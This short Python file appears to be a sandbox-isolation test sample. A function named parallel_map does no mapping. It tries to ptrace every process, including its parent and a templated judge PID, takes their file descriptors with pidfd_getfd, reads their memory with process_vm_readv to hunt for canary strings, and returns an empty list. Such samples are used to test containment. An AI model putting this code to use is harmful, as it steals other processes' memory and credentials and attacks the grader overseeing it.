"""Attaches to every process as a debugger does, copies its memory and takes its descriptors, in a child that may die.

needs: isolation
"""

import ctypes
import os
import re

LIBC = ctypes.CDLL(None, use_errno=True)
ATTACH, SEIZE, READV, PIDFD_OPEN, PIDFD_GETFD = 16, 0x4206, 310, 434, 438


class Piece(ctypes.Structure):
    _fields_ = [("place", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def parallel_map(function, items, workers):
    buffer = ctypes.create_string_buffer(1 << 20)
    for pid in {*map(int, filter(str.isdigit, os.listdir("/proc"))), os.getppid(), int("@JUDGE@")} - {os.getpid()}:
        for request in (ATTACH, SEIZE):
            print("traced", pid, LIBC.ptrace(request, pid, None, None), flush=True)
        handle = LIBC.syscall(PIDFD_OPEN, pid, 0)
        for number in range(20):
            taken = LIBC.syscall(PIDFD_GETFD, handle, number, 0)
            if taken >= 0:
                print("taken", pid, number, os.readlink(f"/proc/self/fd/{taken}"), flush=True)
        for place in (0x400000, 0x555555554000, id(None) & ~0xFFFFF):
            ours, theirs = Piece(ctypes.addressof(buffer), 1 << 20), Piece(place, 1 << 20)
            LIBC.syscall(READV, pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
            print(pid, re.findall(rb"CANARY-[a-z-]+-[0-9a-f]{16}", buffer.raw), flush=True)
    return []
